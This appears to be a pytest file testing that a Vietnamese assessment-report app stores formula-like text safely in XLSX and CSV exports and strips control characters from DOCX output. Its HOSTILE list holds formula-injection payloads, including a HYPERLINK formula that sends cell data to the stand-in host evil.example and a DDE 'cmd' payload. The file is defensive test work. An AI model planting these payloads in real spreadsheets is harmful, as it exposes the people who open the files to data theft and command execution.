"""Cells of the files people open: formulas stay text, numbers stay numbers, control characters
never make a file that Excel, LibreOffice or Word refuses to open."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from application.assessment_report import write_report
from application.cells import csv_row, csv_value, printable, xlsx_row
from domain.letterhead import Letterhead
from domain.scoring import Scorecard

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
    "=cmd|' /C calc'!A0",
    "+84 909 000 001",
    "-12/QĐ-UBND",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
]


def test_text_that_looks_like_a_formula_is_a_string_cell(tmp_path: Path) -> None:
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(xlsx_row(sheet, [*HOSTILE, 12, -3.5, None, "Bình thường"]))
    sheet.append(xlsx_row(sheet, ["Giải trình\x00 có\x01 ký tự\x0b điều khiển\x1f", "\x02=1+1"]))
    path = tmp_path / "s.xlsx"
    book.save(path)

    read = load_workbook(path).active
    assert read is not None
    first, second = list(read.iter_rows())
    assert all(c.data_type != "f" for c in (*first, *second))
    seen = [*(v.replace("\r", "\n") for v in HOSTILE), 12, -3.5, None, "Bình thường"]
    # (a parser may read a lone CR as a line feed: lxml, which python-docx brings, keeps it)
    read_back = [
        c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value for c in first
    ]
    assert read_back == seen
    assert (first[11].data_type, first[12].data_type) == ("n", "n")  # numbers stay numbers
    assert all(c.quotePrefix for c in first[:11])  # editing it in Excel keeps it text
    assert not first[14].quotePrefix
    assert [c.value for c in second[:2]] == ["Giải trình có ký tự điều khiển", "=1+1"]
    assert second[1].data_type == "s"


def test_csv_values_that_look_like_formulas_get_an_apostrophe() -> None:
    assert [csv_value(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert csv_value(-5) == -5 and csv_value(1.5) == 1.5 and csv_value(None) is None
    assert csv_value("Quyết định 12/QĐ-UBND") == "Quyết định 12/QĐ-UBND"
    assert csv_value("\x00=1") == "'=1"  # a control character does not hide a formula
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=["a", "b"])
    writer.writerow(csv_row({"a": "=1+1", "b": 3}))
    assert out.getvalue() == "'=1+1,3\r\n"


def test_printable_keeps_tabs_and_line_breaks() -> None:
    assert printable("a\tb\nc\r\nd\x00e\x1bf\ufffeg") == "a\tb\nc\r\ndefg"


@pytest.mark.parametrize("text", ["Kế hoạch\x00 số 12\x01/KH\x0b-UBND\x0c\x1f", "\x08\x1b[31mđỏ"])
def test_a_docx_with_control_characters_opens(tmp_path: Path, text: str) -> None:
    card = Scorecard(
        framework="fw",
        scale=100,
        areas=(),
        bonus=0,
        penalty=0,
        self_total=0,
        self_index=0,
        self_grade=None,
        appraised_total=None,
        appraised_index=None,
        appraised_grade=None,
    )
    head = Letterhead(body="UBND phường " + text, parent="UBND Quận 9", signer=text)
    path = tmp_path / "r.docx"
    write_report(
        card, path, year=2020, head=head, difficulties="Khó khăn: " + text, files_by_item={}
    )
    with zipfile.ZipFile(path) as archive:
        root = ElementTree.fromstring(archive.read("word/document.xml"))  # well-formed XML
    words = "".join(root.itertext())
    assert printable(text) in words
    assert "Khó khăn: " in words
